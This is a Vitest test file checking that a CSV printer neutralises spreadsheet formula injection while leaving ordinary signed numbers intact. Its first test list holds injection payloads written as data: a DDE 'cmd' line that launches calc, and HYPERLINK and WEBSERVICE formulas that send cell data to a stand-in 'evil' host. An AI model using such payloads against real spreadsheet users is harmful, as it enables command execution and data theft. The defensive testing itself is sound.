import { describe, expect, it } from 'vitest'
import { printCsv } from '../../../core/domain/media/print-csv.ts'

const printed = (text: string): string => printCsv([[[text]]]).replace(/\r\n$/, '')

describe('printCsv', () => {
  it.each([
    '=1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    `-2+3+cmd|' /C calc'!A0`,
    '+1+HYPERLINK("http://evil/?"&A1)',
    '-(HYPERLINK("http://evil/?"&A1))',
    '+"a"&WEBSERVICE("http://evil/")',
    '- A1',
    '+A1',
    '＝1+1',
    '＋A1',
    '+cmd|x',
    '-HYPERLINK(1)',
    '- n',
  ])('lets no spreadsheet calculate %j', (text) => expect(printed(text)).toMatch(/^"?'/))

  it.each([
    '-1.5',
    '+3',
    '- 2',
    '-',
    '+',
    '--',
    '-0.5–1.5',
    '-3 - -1',
    '-1,5 %',
    '+/−',
    '-0.5 (0.2)',
    '-1 ± 2',
    '－2',
    'a=b',
    '5-3',
    '−4',
  ])('leaves %j as it is written', (text) => expect(printed(text).replaceAll('"', '')).toBe(text))
})
